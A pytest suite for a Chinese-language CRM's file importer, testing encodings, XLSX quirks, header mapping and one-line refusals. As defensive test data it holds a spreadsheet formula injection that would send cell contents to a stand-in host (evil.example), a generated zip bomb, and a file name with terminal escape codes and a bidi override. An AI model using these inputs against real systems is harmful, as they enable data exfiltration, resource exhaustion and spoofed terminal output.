"""Messy real-world files an outside tester tried on `tui-crm import`: Excel's other
encodings and sheet layouts, numbers Excel stored as numbers, full-width input, headers
other tools write, and paths that are no file at all. Each either imports what the file
means or is refused with one clear line; nothing is stored mangled."""

from __future__ import annotations

import codecs
import csv
import io
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tui_crm import validation as v
from tui_crm.cli import main
from tui_crm.import_mapping import suggest_mapping
from tui_crm.tabular import neutralise, shown_text

HEADER = ["客户名称", "手机", "客户类型"]
ROWS = [
    ["北京明珠科技有限公司", "13800138000", "成交"],
    ["上海华东贸易有限公司", "13900139000", "潜在"],
]
NAMES = ["上海华东贸易有限公司", "北京明珠科技有限公司"]


@pytest.fixture
def env(cli_env: dict[str, str]) -> dict[str, str]:
    return cli_env


def run(env: dict[str, str], path: Path | str, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        main, ["import", str(path), "--legal-basis", "consent", *args], env=env
    )
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


def refused(env: dict[str, str], path: Path | str, *args: str) -> str:
    code, out, err = run(env, path, "--dry-run", *args)
    assert code == 1 and out == "" and err.count("\n") == 1 and "Traceback" not in err, err
    return err


def stored(env: dict[str, str], columns: str = "name") -> list[tuple[object, ...]]:
    with sqlite3.connect(env["TUI_CRM_DB"]) as conn:
        return sorted(conn.execute(f"SELECT {columns} FROM customers").fetchall())


def csv_text(rows: list[list[str]], delimiter: str = ",") -> str:
    return "".join(delimiter.join(row) + "\r\n" for row in [HEADER, *rows])


def workbook(path: Path, sheets: dict[str, list[list[object]]], hidden: str = "") -> Path:
    book = openpyxl.Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
        if title == hidden:
            sheet.sheet_state = "hidden"
    book.active = next(i for i, title in enumerate(sheets) if title != hidden)
    book.save(path)
    return path


# --- what is not a file ----------------------------------------------------------------------


def test_a_device_is_refused_as_no_regular_file(env: dict[str, str]) -> None:
    """A device (or a FIFO, whose opening waits for a writer forever) is not read."""
    assert "/dev/null: not a regular file" in refused(env, "/dev/null")


def test_tab_is_a_delimiter_one_can_type(env: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "tabs.txt"
    path.write_text(csv_text(ROWS, "\t"), encoding="utf-8")
    for typed in ("tab", "TAB", "\\t"):
        code, out, err = run(env, path, "--dry-run", "--delimiter", typed)
        assert code == 0 and "would create: 2" in out, err


def test_the_date_format_the_refusal_asks_for_is_one_the_cli_takes(
    env: dict[str, str], tmp_path: Path
) -> None:
    """An ambiguous date column says "declare the order with a date format (DD/MM/YYYY
    ...)"; `--date-format DD/MM/YYYY` was then refused as not one of ymd, dmy, mdy, and
    `dym` (no such order) ended in a KeyError."""
    path = tmp_path / "dates.csv"
    text = csv_text([[*ROWS[0], "04/05/2021"]]).replace("客户类型", "客户类型,创建日期")
    path.write_text(text, encoding="utf-8")
    assert "(DD/MM/YYYY or MM/DD/YYYY)" in refused(env, path)
    code, out, err = run(env, path, "--dry-run", "--date-format", "DD/MM/YYYY")
    assert code == 0 and "would create: 1" in out, err
    assert "date format 'dym': write it as" in refused(env, path, "--date-format", "dym")


def test_a_row_shifted_by_an_unquoted_comma_is_rejected_not_cut(
    env: dict[str, str], tmp_path: Path
) -> None:
    """`北京市,朝阳区建国路88号` in a last column without quotes: the address was stored as
    北京市 and the rest dropped. A column every row has but the header lacks stays ignored."""
    path = tmp_path / "shifted.csv"
    path.write_text(
        "客户名称,手机,客户类型,地址\r\n甲公司,13800138000,成交,北京市,朝阳区建国路88号\r\n"
        "乙公司,13900139000,潜在,上海市浦东新区\r\n",
        encoding="utf-8",
    )
    code, out, err = run(env, path)
    assert code == 0 and "line 2 rejected: #5: the row has more cells than the header" in out
    assert stored(env) == [("乙公司",)]
    unnamed = tmp_path / "unnamed.csv"
    unnamed.write_text(csv_text([[*row, "x"] for row in ROWS]), encoding="utf-8")
    code, out, err = run(env, unnamed, "--dry-run")
    assert code == 0 and "rejected: 0" in out, err


def test_a_quote_never_closed_is_named_as_the_likely_cause(
    env: dict[str, str], tmp_path: Path
) -> None:
    """One stray opening quote swallows the rest of the file into one cell."""
    rows = [['"甲公司', "13800138000", "成交"]]
    rows += [[f"公司{i}", f"138{i:08d}", "潜在"] for i in range(8000)]
    path = tmp_path / "quote.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    err = refused(env, path)
    assert 'quote.csv: line 2 has a cell larger than 128 KiB: a quote (") opened there' in err


def test_a_file_from_abroad_declares_where_its_numbers_are_from(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Read as Chinese, London's 020 7946 0958 is a valid Guangzhou landline; the options
    had a phone region, the CLI no way to give it."""
    path = tmp_path / "uk.csv"
    path.write_text("Company,Phone,Type\r\nAcme Ltd,020 7946 0958,customer\r\n", encoding="utf-8")
    code, _out, err = run(env, path, "--phone-region", "gb")
    assert code == 0, err
    assert stored(env, "name, phone_last4") == [("Acme Ltd", "0958")]
    result = CliRunner().invoke(main, ["customer", "find", "+442079460958", "--json"], env=env)
    assert "Acme Ltd" in result.output
    assert "phone region 'XX': write a country code" in refused(env, path, "--phone-region", "XX")


# --- encodings -------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-32-le", "utf-32-be", "utf-16-le", "utf-16-be"])
def test_unicode_text_with_a_byte_order_mark_reads(
    env: dict[str, str], tmp_path: Path, encoding: str
) -> None:
    """Excel's "Unicode Text" is UTF-16 LE with a BOM and tabs; UTF-32's BOM begins with
    UTF-16 LE's, so it must be told apart first."""
    bom = {
        "utf-32-le": codecs.BOM_UTF32_LE,
        "utf-32-be": codecs.BOM_UTF32_BE,
        "utf-16-le": codecs.BOM_UTF16_LE,
        "utf-16-be": codecs.BOM_UTF16_BE,
    }[encoding]
    path = tmp_path / "unicode.txt"
    path.write_bytes(bom + csv_text(ROWS, "\t").encode(encoding))
    code, _out, err = run(env, path)
    assert code == 0, err
    assert stored(env) == [(n,) for n in NAMES]


@pytest.mark.parametrize("codec", ["base64", "rot13", "zlib", "idna", "undefined"])
def test_a_codec_that_decodes_no_text_is_an_unknown_encoding(
    env: dict[str, str], tmp_path: Path, codec: str
) -> None:
    """`--encoding base64` passed codecs.lookup and ended in a LookupError traceback."""
    path = tmp_path / "plain.csv"
    path.write_text(csv_text(ROWS), encoding="utf-8")
    assert f"unknown encoding '{codec}'" in refused(env, path, "--encoding", codec)


def test_utf16_named_for_a_file_without_its_bom_is_one_line(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Python's UTF-16 decoder raises a bare UnicodeError ("does not start with BOM")."""
    path = tmp_path / "nobom.csv"
    path.write_bytes(csv_text(ROWS).encode("utf-16-le"))
    assert "nobom.csv: line 1 is not valid utf-16 text" in refused(
        env, path, "--encoding", "utf-16"
    )
    code, _out, err = run(env, path, "--encoding", "utf-16-le")
    assert code == 0, err


# --- XLSX ------------------------------------------------------------------------------------


def test_a_password_protected_workbook_says_so(env: dict[str, str], tmp_path: Path) -> None:
    """Excel keeps an encrypted .xlsx in an OLE2 compound file, like an old .xls; being
    told to "save it as .xlsx" does not help with a file that already is one."""
    directory_entry = "EncryptedPackage".encode("utf-16-le")
    body = bytearray(3 << 20)
    start = (1 << 20) - 8 - 7  # across the first 1 MiB read's end (the magic is 8 bytes)
    body[start : start + len(directory_entry)] = directory_entry
    path = tmp_path / "客户.xlsx"
    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(body))
    assert "客户.xlsx: a password-protected workbook" in refused(env, path)


def test_a_zip_bomb_is_refused_before_it_is_unpacked(env: dict[str, str], tmp_path: Path) -> None:
    """A small workbook whose shared strings unpack to a hundred times more: refused with one
    line, not read into memory."""
    buffer = io.BytesIO()
    book = openpyxl.Workbook()
    for row in [HEADER, *ROWS]:
        book.active.append(row)
    book.save(buffer)
    path = tmp_path / "bomb.xlsx"
    with (
        zipfile.ZipFile(buffer) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for part in source.infolist():
            bomb.writestr(part, source.read(part.filename))
        with bomb.open("xl/sharedStrings.xml", "w") as strings:
            strings.write(b"<sst>")
            for _chunk in range(40):
                strings.write(b"<si><t>" + b"A" * (1 << 20) + b"</t></si>")
            strings.write(b"</sst>")
    assert path.stat().st_size < 1 << 20
    assert "bomb.xlsx: unpacks to 40 MB" in refused(env, path)


def test_a_zip_zipfile_cannot_list_is_refused_in_one_line(
    env: dict[str, str], tmp_path: Path
) -> None:
    """zipfile raised NotImplementedError ("zip file version 21.8"): a traceback, and the
    bomb check skipped for calamine to unpack whatever the archive held."""
    path = workbook(tmp_path / "odd.xlsx", {"客户": [HEADER, *ROWS]})
    data = bytearray(path.read_bytes())
    entry = data.find(b"PK\x01\x02")
    data[entry + 6 : entry + 8] = (218).to_bytes(2, "little")  # version needed to extract
    path.write_bytes(bytes(data))
    assert "odd.xlsx: not a readable XLSX workbook" in refused(env, path)


def test_the_visible_sheet_is_read_not_a_hidden_one_before_it(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Templates keep lookup lists on a hidden first sheet; Excel opens on the visible one."""
    path = workbook(
        tmp_path / "hidden.xlsx",
        {"lookup": [["名称", "代码"], ["制造业", "C"]], "客户": [HEADER, *ROWS]},
        hidden="lookup",
    )
    code, _out, err = run(env, path)
    assert code == 0, err
    assert stored(env) == [(n,) for n in NAMES]


def test_an_empty_first_sheet_names_the_sheets_to_choose_from(
    env: dict[str, str], tmp_path: Path
) -> None:
    path = workbook(tmp_path / "cover.xlsx", {"封面": [], "客户": [HEADER, *ROWS]})
    err = refused(env, path)
    assert "cover.xlsx: first sheet '封面' is empty; name the sheet to read (sheets: 客户)" in err
    code, _out, err = run(env, path, "--sheet", "客户")
    assert code == 0, err


def test_a_formula_error_cell_is_refused_not_read_as_empty(
    env: dict[str, str], tmp_path: Path
) -> None:
    """A VLOOKUP that failed shows #N/A; calamine reads it as an empty cell, which would
    import the customer without that phone (or, updating, keep an old one) unsaid. In a
    column the run does not import (a helper column) it does no harm."""
    rows = [[*HEADER, "辅助列"], [*ROWS[0], "#N/A"], ["上海华东贸易有限公司", "#N/A", "潜在", "x"]]
    table_at_b2 = [[None], *([None, *row] for row in rows)]
    path = workbook(tmp_path / "lookup.xlsx", {"客户": table_at_b2})
    err = refused(env, path)
    assert "lookup.xlsx: column '手机' has 1 cell(s) showing a formula error" in err
    assert "the first at C4" in err
    helper_only = [[*HEADER, "辅助列"], [*ROWS[0], "#N/A"]]
    code, out, err = run(env, workbook(tmp_path / "helper.xlsx", {"客户": helper_only}))
    assert code == 0 and "created: 1" in out, err


def test_a_header_wider_than_any_spreadsheet_is_refused(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Mapping walked the columns once per column: 50,000 of them took half a minute."""
    path = tmp_path / "wide.csv"
    path.write_text(
        ",".join(HEADER + ["x"] * 20000) + "\r\n" + ",".join(ROWS[0]) + "\r\n", encoding="utf-8"
    )
    assert "wide.csv: the header row has 20003 columns" in refused(env, path)


def test_a_number_longer_than_excel_keeps_is_never_stored_as_a_value(
    env: dict[str, str], tmp_path: Path
) -> None:
    """An 18-digit ID typed as a number has lost its last digits (Excel keeps 15):
    110105195308288016 became 1.10105195308288E+17, whose digits are another valid ID."""
    kept = float("110105195308288016"[:15] + "000")
    assert v.normalise_id_number(str(int(kept))) == "110105195308288000"
    rows = [["客户名称", "手机", "身份证号", "客户类型", "客户性质"],
            ["张三", 13800138000, kept, "成交", "个人"]]  # fmt: skip
    path = workbook(tmp_path / "ids.xlsx", {"客户": rows})
    code, out, err = run(env, path)
    assert code == 0, err
    assert "line 2 rejected: ID number: is not a valid resident ID number" in out
    assert stored(env) == []


def test_a_phone_stored_as_a_number_imports_as_its_digits(
    env: dict[str, str], tmp_path: Path
) -> None:
    rows = [HEADER, ["甲公司", 13800138000, "成交"], ["乙公司", 8613900139000, "成交"]]
    code, _out, err = run(env, workbook(tmp_path / "numbers.xlsx", {"客户": rows}))
    assert code == 0, err
    assert stored(env, "name, phone_last4") == [("乙公司", "9000"), ("甲公司", "8000")]


def test_the_rejected_rows_report_holds_no_live_formula(
    env: dict[str, str], tmp_path: Path
) -> None:
    """A text cell `=HYPERLINK(...)` is inert in XLSX; copied as it is into the CSV
    report, Excel would run it when the operator opens the report to fix the rows. The
    report re-imports as the file read (the importer takes the apostrophe off again)."""
    link = '=HYPERLINK("http://evil.example/?q="&A1,"fix me")'
    rows = [HEADER, [link, "not a phone", "成交"], ["'=1+1", "13800138000x", "成交"]]
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    for cell in ("A2", "A3"):
        book.active[cell].data_type = "s"  # text, as Excel keeps a cell typed with a '
    path = tmp_path / "inject.xlsx"
    book.save(path)
    report = tmp_path / "report.csv"
    code, out, err = run(env, path, "--report", str(report))
    assert code == 0 and "rejected: 2" in out, err
    with report.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert [row[3] for row in written[1:]] == ["'" + link, "'=1+1"]


def test_a_text_formula_cell_reads_as_the_text_excel_shows(
    env: dict[str, str], tmp_path: Path
) -> None:
    """Exports that keep long numbers as text write `="11010519491231002X"`: Excel shows
    the ID, the import read the formula (an ID "not valid", a date "not a date")."""
    path = tmp_path / "wrapped.csv"
    path.write_text(
        "客户名称,手机,身份证号,客户类型,客户性质,创建日期\r\n"
        '张三,="13800138000",="11010519491231002X",成交,个人,="2021-05-04"\r\n'
        '李四,13900139000,"=""11010519491231002X""x",成交,个人,2021-05-04\r\n',
        encoding="utf-8",
    )
    report = tmp_path / "report.csv"
    code, out, err = run(env, path, "--report", str(report))
    assert code == 0 and "created: 1" in out and "line 3 rejected: ID number" in out, err
    assert stored(env, "name, created_at") == [("张三", "2021-05-04T00:00:00")]
    text = report.read_text(encoding="utf-8-sig")
    assert '\'="11010519491231002X"x' in text.replace('""', '"')  # a formula: neutralised
    assert shown_text(neutralise('="x"')) == '="x"'  # a name that is one reads back as it is


# --- values typed in an input method's full-width mode ------------------------------------------


def test_full_width_codes_and_emails_are_their_ascii_selves() -> None:
    assert v.normalise_credit_code("９１３５０１００ｍ０００１００ｙ４３") == "91350100M000100Y43"
    assert v.normalise_id_number("１１０１０５１９４９１２３１００２ｘ") == "11010519491231002X"
    assert v.normalise_email("Ｌｉ．Ｌｅｉ＠Ｅｘａｍｐｌｅ．ｃｏｍ") == "li.lei@example.com"
    assert v.normalise_email("user@例子.广告") == "user@例子.广告"


def test_a_full_width_credit_code_imports(env: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "wide.csv"
    path.write_text(
        "客户名称,手机,统一社会信用代码,客户类型\r\n甲公司,13800138000,９１３５０１００Ｍ０００１００Ｙ４３,成交\r\n",
        encoding="utf-8",
    )
    code, _out, err = run(env, path)
    assert code == 0, err
    assert stored(env, "name, credit_code") == [("甲公司", "91350100M000100Y43")]


# --- headers other tools write -----------------------------------------------------------------


def test_headers_of_chinese_crms_and_outlook_find_their_fields() -> None:
    headers = ["客户名称", "联系人手机", "联系人电话", "联系人邮箱", "邮箱地址",
               "Business Phone", "Mobile Phone", "Telephone Number"]  # fmt: skip
    fields = suggest_mapping(headers).fields
    assert fields == ("name", "phone", "extra_phone", "email", "extra_email",
                      "extra_phone", "extra_phone", "extra_phone")  # fmt: skip
    google = ["Name", "E-mail 1 - Value", "E-mail 2 - Value", "Phone 1 - Value", "Phone 2 - Value"]
    assert suggest_mapping(google).fields == (
        "name", "email", "extra_email", "phone", "extra_phone"
    )  # fmt: skip
    chinese = ["公司全称", "座机号码", "电子信箱", "备注信息", "最后跟进日期"]
    assert suggest_mapping(chinese).fields == (
        "name", "phone", "email", "notes", "last_interaction_at"
    )  # fmt: skip
    outlook = ["Company", "E-mail Address", "E-mail 2 Address", "Mobile Phone"]
    assert suggest_mapping(outlook).fields == ("name", "email", "extra_email", "phone")


@pytest.mark.parametrize(
    ("headers", "fields"),
    [
        (["Name", "Company", "Email"], ("contact_name", "name", "email")),
        (["姓名", "公司名称", "手机"], ("contact_name", "name", "phone")),
        (["姓名", "手机"], ("name", "phone")),  # a person who is the customer
        (["Name", "Company", "Contact"], ("name", None, "contact_name")),  # said by Contact
    ],
)
def test_a_person_name_beside_a_company_column_is_the_contact(
    headers: list[str], fields: tuple[str | None, ...]
) -> None:
    """Name + Company (a CRM or LinkedIn export) made customers named after the person,
    the Company column dropped as a second name."""
    assert suggest_mapping(headers).fields == fields


# --- messages ---------------------------------------------------------------------------------


def test_an_unknown_owner_is_told_in_the_operator_language(
    env: dict[str, str], tmp_path: Path
) -> None:
    path = tmp_path / "owner.csv"
    text = csv_text([[*ROWS[0], "nobody"]]).replace("客户类型", "客户类型,负责人", 1)
    path.write_text(text, encoding="utf-8")
    code, out, err = run({**env, "LANGUAGE": "zh_CN"}, path, "--dry-run")
    assert code == 0, err
    assert "'nobody' 不是在用的用户" in out


def test_a_hostile_file_name_stays_out_of_every_message(
    env: dict[str, str], tmp_path: Path
) -> None:
    """A file name can hold escape sequences and a bidi override (`red\u202egnp.csv`)."""
    path = tmp_path / "\x1b]0;owned\x07\x1b[31mred\u202egnp.csv"
    path.write_text("客户名称,地址\r\n甲公司,北京\r\n", encoding="utf-8")
    err = refused(env, path)
    assert "no column is mapped to a phone or an email" in err
    path.write_text(csv_text(ROWS), encoding="utf-8")
    code, out, err = run(env, path, "--dry-run")
    assert code == 0, err
    for text in (out, err):
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    err = refused(env, path, "--report", str(tmp_path / "none" / "\u202evsc.csv"))
    assert "cannot be written" in err and "\u202e" not in err


def test_placeholders_for_nothing_are_empty_cells_not_bad_values(
    env: dict[str, str], tmp_path: Path
) -> None:
    """无, 暂无, -, N/A … in a phone, email, credit code or date column mean "none": the row
    goes in without that value; a name or a note keeps such a word as written."""
    path = tmp_path / "placeholders.csv"
    path.write_text(
        "客户名称,手机,邮箱,统一社会信用代码,创建日期,备注,客户类型\n"
        "甲公司,13800138000,无,N/A,暂无,无,潜在\n"
        "乙公司,－,yi@example.com,／,null,,潜在\n"
        "无,13900139000,,,,,潜在\n",
        encoding="utf-8",
    )
    code, out, err = run(env, path)
    assert code == 0 and "rejected: 0" in out and "created: 3" in out, out + err
    assert stored(env, "name, phone_enc IS NULL, email_enc IS NULL, credit_code, notes") == [
        ("乙公司", 1, 0, None, ""),
        ("无", 0, 1, None, ""),
        ("甲公司", 0, 1, None, "无"),
    ]


def test_a_big5_file_from_taiwan_is_read_as_big5(env: dict[str, str], tmp_path: Path) -> None:
    """Excel in Taiwan or Hong Kong saves CSV in Big5; read as GB18030 it was mojibake
    stored as names. A GBK file with traditional or rare characters stays GBK."""
    big5 = tmp_path / "taiwan.csv"
    big5.write_bytes(
        (
            "Company,Contact,Phone,Type\r\n"
            "台灣積體電路製造股份有限公司,陳大文,+886 2 2345 6789,prospect\r\n"
            "鴻海精密工業股份有限公司,林小華,+886 2 2268 3466,prospect\r\n"
            "國泰人壽保險股份有限公司,黃美玲,+886 2 2755 1399,prospect\r\n"
        ).encode("cp950")
    )
    code, out, err = run(env, big5)
    assert code == 0 and "created: 3" in out, out + err
    assert ("台灣積體電路製造股份有限公司",) in stored(env)
    gbk = tmp_path / "mainland.csv"
    gbk.write_bytes(
        (
            "Company,Contact,Phone,Type\r\n"
            "北京龘喆科技有限公司,王堃,13800138001,prospect\r\n"
            "上海華東貿易有限公司,李祎,13800138002,prospect\r\n"
        ).encode("gbk")
    )
    code, out, err = run(env, gbk)
    assert code == 0 and "created: 2" in out, out + err
    assert ("上海華東貿易有限公司",) in stored(env)
